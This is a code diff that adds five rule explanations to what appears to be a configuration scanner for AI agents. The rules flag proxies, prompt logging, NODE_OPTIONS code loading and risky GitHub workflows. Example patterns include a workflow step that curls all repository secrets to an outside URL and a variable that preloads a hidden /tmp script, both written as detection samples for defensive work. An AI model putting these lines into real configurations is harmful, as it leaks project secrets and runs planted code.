@@ -110,6 +110,69 @@ REDIRECT = _explanation(
     innocent=phrase("Addresses on this machine, and those of the providers themselves, are not flagged."),
     references=("ASI03", "AST01", "LLM02:2025", "AML.T0081", "CWE-200"),
 )
+PROXIED = _explanation(
+    "config-proxied",
+    Severity.HIGH,
+    phrase("A configuration sends all requests through somebody else's server"),
+    phrase(
+        "A proxy sees where each request goes; where certificates are not checked, or are its own, it also"
+        " reads and changes what is in them."
+    ),
+    phrase("Remove the setting unless the server is your own."),
+    check=Check.SECRET_EXFILTRATION,
+    category=Category.CONTEXT_EXFILTRATION,
+    example='"HTTPS_PROXY": "http://203.0.113.7:8080"',
+    innocent=phrase("Proxies on this machine or in a private network are not flagged."),
+    references=("ASI03", "AST01", "LLM02:2025", "AML.T0081", "CWE-319"),
+)
+REPORTED = _explanation(
+    "config-reports-talk",
+    Severity.CRITICAL,
+    phrase("A configuration has what you write reported to a server"),
+    phrase("Your own words, and what tools are given, go to that server with every step of the agent."),
+    phrase("Remove the setting unless the server is your own."),
+    check=Check.SECRET_EXFILTRATION,
+    category=Category.CONTEXT_EXFILTRATION,
+    lane=Lane.BLOCK,
+    example='"OTEL_LOG_USER_PROMPTS": "1"',
+    innocent=phrase("Figures on use without what was said, and servers on this machine, are not flagged."),
+    references=("ASI03", "AST01", "LLM02:2025", "AML.T0081", "CWE-200"),
+)
+LOADS = _explanation(
+    "config-loads-code",
+    Severity.HIGH,
+    phrase("A configuration loads code into every program that is started"),
+    phrase(
+        "The variable has a file run first in each shell, interpreter or program, whatever was asked for."
+    ),
+    phrase("Remove the variable. If it was in use, look at the file that it names."),
+    example='"NODE_OPTIONS": "--require /tmp/.init.js"',
+    innocent=phrase("Packages by name, memory limits and libraries of the system are not flagged."),
+    references=("ASI05", "AST01", "LLM03:2025", "AML.T0081", "CWE-426"),
+)
+WORKFLOW_LEAKS = _explanation(
+    "config-workflow-leaks",
+    Severity.CRITICAL,
+    phrase("A workflow sends secrets of the repository to a server they do not belong to"),
+    phrase("The secrets open the accounts that the project publishes with; only their issuer needs them."),
+    phrase("Remove the step. If it has run, replace every secret of the repository."),
+    check=Check.SECRET_EXFILTRATION,
+    category=Category.CONTEXT_EXFILTRATION,
+    lane=Lane.BLOCK,
+    example="run: curl -d '${{ toJSON(secrets) }}' https://…",
+    innocent=phrase("A secret that is used at the service it belongs to is not flagged."),
+    references=("ASI03", "AST01", "LLM02:2025", "AML.T0086", "CWE-200", "CWE-522"),
+)
+WORKFLOW_OPEN = _explanation(
+    "config-workflow-open",
+    Severity.HIGH,
+    phrase("A workflow runs the code of strangers with the rights of the repository"),
+    phrase("Whoever proposes a change decides what is run, and it can read the secrets of the project."),
+    phrase("Use `pull_request`, or do not check the proposed code out."),
+    example="on: pull_request_target … ref: ${{ github.event.pull_request.head.sha }}",
+    innocent=phrase("Workflows that only label or comment are not flagged."),
+    references=("ASI05", "AST02", "LLM03:2025", "CWE-829"),
+)
 PERMISSIONS = _explanation(
     "config-permissions-open",
     Severity.HIGH,
@@ -152,6 +215,11 @@ EXPLANATIONS = (
     NOT_A_SERVER,
     PLAIN_HTTP,
     REDIRECT,
+    PROXIED,
+    REPORTED,
+    LOADS,
+    WORKFLOW_LEAKS,
+    WORKFLOW_OPEN,
     PERMISSIONS,
     SECRET,
     UNREADABLE,
